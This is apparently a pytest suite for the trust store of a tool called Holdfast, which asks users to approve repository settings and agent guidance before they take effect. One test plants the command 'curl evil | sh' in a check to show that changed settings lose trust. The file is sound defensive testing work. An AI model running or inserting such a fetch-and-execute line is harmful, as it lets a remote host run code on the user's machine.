from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from holdfast.errors import EnvironmentProblem, Untrusted
from holdfast.repo import ids, records, trust
from holdfast.repo.branch import RecordsBranch
from holdfast.repo.location import Repository
from holdfast.repo.trust import TrustStore
from holdfast.repo.visible import visible, visible_line
from holdfast.testing.repositories import clone, make_repository, run_git

CHECK = '[checks.test]\nrun = "pytest -q"\ntimeout = 60\n'


def put(repository: Repository, path: str, text: str) -> Path:
    assert repository.root is not None
    file = repository.root / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)
    return file


def learn(repository: Repository, **author: str) -> None:
    name = ids.new_id()
    event = records.RecordEvent(id=name, kind="learning.accepted", subject=ids.new_id(), day="2026-01-02")
    before = dict(os.environ)
    os.environ.update(author)
    try:
        RecordsBranch(repository).append({event.path: records.encode(event)}, "learn")
    finally:
        os.environ.clear()
        os.environ.update(before)


def test_a_repository_is_not_trusted_until_it_was_accepted(repository: Repository) -> None:
    store = TrustStore()
    assert not store.state(repository).trusted
    with pytest.raises(Untrusted, match="not been trusted on this machine") as caught:
        store.require(repository)
    assert "holdfast trust" in caught.value.hint
    store.accept(repository)
    assert store.require(repository).trusted


def test_every_item_is_named_with_what_it_would_do(repository: Repository) -> None:
    put(repository, ".holdfast/config.toml", CHECK + '[guards.force]\ndeny = "git push --force"\n')
    put(repository, ".holdfast/goals.toml", '[goals.fast]\nmeasure = "make time"\n')
    put(repository, ".holdfast/guidance/tests.md", "Run the tests.\n")
    put(repository, ".holdfast/scripts/check.sh", "#!/bin/sh\n")
    does = {item.name: item.does for item in TrustStore().state(repository).items}
    assert does["checks.test"] == 'run "pytest -q"; timeout = 60'
    assert does["guards.force"] == 'deny = "git push --force"'
    assert does["goals.fast"] == 'run "make time"'
    assert "told to agents" in does[".holdfast/guidance/tests.md"]
    assert ".holdfast/scripts/check.sh" in does


def test_a_change_takes_trust_away_and_shows_what_changed(repository: Repository) -> None:
    store = TrustStore()
    put(repository, ".holdfast/config.toml", CHECK)
    store.accept(repository)
    put(repository, ".holdfast/config.toml", CHECK.replace("pytest -q", "curl evil | sh"))
    state = store.state(repository)
    assert not state.trusted
    assert "checks.test" in state.reason
    diff = next(change.diff for change in state.changed if change.name == ".holdfast/config.toml")
    assert '-run = "pytest -q"' in diff
    assert '+run = "curl evil | sh"' in diff


def test_a_new_file_takes_trust_away_until_it_is_accepted(repository: Repository) -> None:
    store = TrustStore()
    store.accept(repository)
    put(repository, ".holdfast/guidance/new.md", "Do as I say.\n")
    [change] = store.state(repository).changed
    assert (change.what, change.diff) == ("new", "Do as I say.\n")
    store.accept(repository)
    assert store.state(repository).trusted


def test_a_removed_item_takes_no_trust_away_and_is_named(repository: Repository) -> None:
    store = TrustStore()
    file = put(repository, ".holdfast/guidance/old.md", "x\n")
    store.accept(repository)
    file.unlink()
    state = store.state(repository)
    assert state.trusted
    assert state.removed == (".holdfast/guidance/old.md",)


def test_content_accepted_before_is_not_asked_about_again(repository: Repository) -> None:
    store = TrustStore()
    for text in ("one\n", "two\n"):
        put(repository, ".holdfast/guidance/a.md", text)
        store.accept(repository)
    put(repository, ".holdfast/guidance/a.md", "one\n")
    assert store.state(repository).trusted


def test_only_what_was_shown_is_accepted(repository: Repository) -> None:
    store = TrustStore()
    put(repository, ".holdfast/guidance/a.md", "harmless\n")
    shown = store.state(repository)
    put(repository, ".holdfast/guidance/a.md", "swapped while you read\n")
    store.accept(repository, (), shown.items)
    assert not store.state(repository).trusted


def test_revoking_takes_trust_away(repository: Repository) -> None:
    store = TrustStore()
    store.accept(repository, ["other@example.invalid"])
    assert store.revoke(repository)
    assert not store.state(repository).trusted
    assert store.accepted_identities(repository) == frozenset()
    assert not store.revoke(repository)


def test_all_worktrees_of_a_repository_share_its_trust(repository: Repository, tmp_path: Path) -> None:
    TrustStore().accept(repository)
    run_git(repository.directory, "worktree", "add", "--quiet", str(tmp_path / "linked"))
    assert TrustStore().state(Repository.find(tmp_path / "linked")).trusted


def test_another_repository_at_the_same_path_is_not_trusted(repository: Repository, tmp_path: Path) -> None:
    store = TrustStore()
    store.accept(repository, ["friend@example.invalid"])
    other = make_repository(tmp_path / "other")
    assert repository.root is not None
    shutil.rmtree(repository.root)
    again = clone(other.directory, repository.root)
    state = store.state(again)
    assert not state.trusted
    assert "another one" in state.reason
    store.accept(again)
    assert store.state(again).identities == ()


def test_a_repository_reached_through_a_link_is_the_same_one(repository: Repository, tmp_path: Path) -> None:
    TrustStore().accept(repository)
    (tmp_path / "link").symlink_to(repository.directory)
    assert TrustStore().state(Repository.find(tmp_path / "link")).trusted


def test_the_store_is_outside_the_repository_and_for_its_owner_alone(
    repository: Repository, home: Path
) -> None:
    put(repository, ".holdfast/guidance/a.md", "x\n")
    store = TrustStore()
    store.accept(repository)
    assert store.path == home / "state" / "holdfast" / "trust.json"
    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600
    assert stat.S_IMODE(store.folder.stat().st_mode) == 0o700
    kept = [path for path in store.folder.rglob("*") if path.is_file()]
    assert {stat.S_IMODE(path.stat().st_mode) for path in kept} == {0o600}


def test_a_store_inside_the_repository_never_trusts_it(
    repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    TrustStore().accept(repository)
    assert repository.root is not None
    planted = repository.root / "state" / "holdfast"
    shutil.copytree(TrustStore().folder, planted)
    monkeypatch.setenv("XDG_STATE_HOME", str(planted.parent))
    state = TrustStore().state(repository)
    assert not state.trusted
    assert "inside this repository" in state.reason
    with pytest.raises(EnvironmentProblem, match="inside this repository"):
        TrustStore().accept(repository)


def test_a_relative_state_directory_is_ignored(
    repository: Repository, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", "state")
    assert TrustStore().folder == home / ".local/state/holdfast"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can become a user whom the system does not know")
def test_a_user_without_a_home_trusts_nothing_and_is_told_so() -> None:
    program = """
        import os
        from pathlib import Path
        from holdfast.repo.location import Repository
        from holdfast.repo.trust import TrustStore
        os.setuid(54321)
        state = TrustStore().state(Repository(None, Path("/nowhere"), Path("/nowhere")))
        print(state.trusted, state.reason)
    """
    hidden = {name: value for name, value in os.environ.items() if name not in ("HOME", "XDG_STATE_HOME")}
    done = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(program)],
        env=hidden,
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stdout.startswith("False This user has no home directory")


@pytest.mark.parametrize("writable", ["trust.json", "."])
def test_a_store_that_others_could_write_does_not_count(repository: Repository, writable: str) -> None:
    store = TrustStore()
    store.accept(repository)
    (store.folder / writable).chmod(0o777)
    state = store.state(repository)
    assert not state.trusted
    assert "chmod go-w" in state.reason


def test_a_linked_store_does_not_count(repository: Repository, tmp_path: Path) -> None:
    store = TrustStore()
    store.accept(repository)
    store.path.rename(tmp_path / "elsewhere.json")
    store.path.symlink_to(tmp_path / "elsewhere.json")
    assert not store.state(repository).trusted


@pytest.mark.parametrize("content", [b"", b"{", b"\xff\xfe", b"[]", b'{"repositories": 3}', b"[" * 100_000])
def test_a_damaged_store_trusts_nothing_and_is_kept_aside(repository: Repository, content: bytes) -> None:
    store = TrustStore()
    store.accept(repository)
    store.path.write_bytes(content)
    assert not store.state(repository).trusted
    store.accept(repository)
    assert store.state(repository).trusted
    assert store.path.with_name("trust.json.damaged").read_bytes() == content


def test_a_store_of_a_newer_version_is_not_overwritten(repository: Repository) -> None:
    store = TrustStore()
    store.accept(repository)
    newer = json.loads(store.path.read_text()) | {"schema": "holdfast.trust/2"}
    store.path.write_text(json.dumps(newer))
    assert not store.state(repository).trusted
    with pytest.raises(EnvironmentProblem, match="newer Holdfast"):
        store.accept(repository)
    assert json.loads(store.path.read_text()) == newer


def test_accepting_two_repositories_at_once_loses_neither(tmp_path: Path) -> None:
    repositories = [make_repository(tmp_path / f"r{number}") for number in range(6)]
    threads = [threading.Thread(target=TrustStore().accept, args=(each,)) for each in repositories]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert all(TrustStore().state(each).trusted for each in repositories)


def test_a_link_is_listed_as_never_read(repository: Repository, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("secret\n")
    put(repository, ".holdfast/guidance/a.md", "x\n")
    assert repository.root is not None
    (repository.root / ".holdfast/guidance/b.md").symlink_to(tmp_path / "secret")
    item = TrustStore().state(repository).items[-1]
    assert (item.kind, item.text) == ("refused", "")
    assert "never read" in item.does


def test_a_linked_settings_folder_is_never_read(repository: Repository, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "config.toml").write_text(CHECK)
    assert repository.root is not None
    (repository.root / ".holdfast").symlink_to(tmp_path / "elsewhere")
    [item] = TrustStore().state(repository).items
    assert (item.kind, item.name) == ("refused", ".holdfast")


@pytest.mark.parametrize(
    "text",
    [
        "[checks",
        "a." * 20_000 + "a = 1",
        "x = " + "[" * 30_000,
        "x = " + "9" * 6000,
        "x = 1\n" * 50_000,
        "\0",
    ],
    ids=["broken", "dotted", "nested", "digits", "large", "nul"],
)
def test_settings_that_no_parser_should_be_fed_are_an_item_that_says_so(
    repository: Repository, text: str
) -> None:
    put(repository, ".holdfast/config.toml", text)
    items = TrustStore().state(repository).items
    assert "cannot be read" in items[-1].does


def test_names_that_are_no_text_are_shown_as_escapes(repository: Repository) -> None:
    folder = put(repository, ".holdfast/guidance/a.md", "x\n").parent
    Path(os.fsdecode(os.fsencode(folder) + b"/\xff\x1b.md")).write_text("y\n")
    names = [item.name for item in TrustStore().state(repository).items]
    assert json.dumps(names).isascii()
    assert any("\\udcff" in name for name in names)


def test_a_section_of_one_file_does_not_stand_for_that_of_another(repository: Repository) -> None:
    store = TrustStore()
    put(repository, ".holdfast/config.toml", '[goals.x]\nrun = "one"\n')
    put(repository, ".holdfast/goals.toml", '[goals.x]\nrun = "two"\n')
    store.accept(repository)
    assert store.state(repository).trusted


def test_a_bare_repository_can_be_trusted(tmp_path: Path) -> None:
    bare = make_repository(tmp_path / "bare.git", bare=True)
    TrustStore().accept(bare)
    state = TrustStore().state(bare)
    assert state.trusted
    assert state.items == ()


def test_records_by_others_are_named_and_accepted_by_address(repository: Repository, tmp_path: Path) -> None:
    learn(repository, GIT_AUTHOR_EMAIL="other@example.invalid")
    (repository.state_dir / "own-records").unlink()  # as in a clone that wrote none of it
    learn(repository)
    store = TrustStore()
    seen = trust.seen_identities(repository)
    assert store.state(repository, seen).new_identities == ("other@example.invalid",)
    store.accept(repository, seen)
    assert store.state(repository, seen).new_identities == ()
    assert store.accepted_identities(repository) == {"other@example.invalid"}


def test_an_address_alone_makes_no_record_ones_own(repository: Repository) -> None:
    """Anybody who may push can bear the user's address; what this clone wrote is known by its commits."""
    learn(repository)
    assert trust.seen_identities(repository) == ()
    (repository.state_dir / "own-records").unlink()
    assert trust.seen_identities(repository) == (trust.own_identity(repository),)


def test_no_one_is_accepted_in_an_untrusted_repository(repository: Repository) -> None:
    assert TrustStore().accepted_identities(repository) == frozenset()


@settings(max_examples=30, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(texts=st.lists(st.sampled_from(["a\n", "b\n", "c\n"]), min_size=1, max_size=6), last=st.data())
def test_trusted_means_that_every_content_was_accepted(
    repository: Repository, texts: list[str], last: st.DataObject
) -> None:
    store = TrustStore()
    store.revoke(repository)
    for text in texts:
        put(repository, ".holdfast/guidance/a.md", text)
        store.accept(repository)
    now = last.draw(st.sampled_from(["a\n", "b\n", "c\n", "d\n"]))
    put(repository, ".holdfast/guidance/a.md", now)
    assert store.state(repository).trusted is (now in texts)


@given(st.text())
def test_visible_text_hides_nothing_and_moves_nothing(text: str) -> None:
    shown = visible(text)
    assert not any((ord(c) < 32 and c not in "\n\t") or 127 <= ord(c) < 160 for c in shown)
    assert not set(shown) & set("\u202e\u2066\u200b\u200d\ufeff\U000e0041\u00ad")
    assert "\n" not in visible_line(text)


def test_ordinary_text_is_shown_as_it_is() -> None:
    text = "Prüfe `x` — 日本語, 🙂:\n\t- eins\n"
    assert visible(text) == text
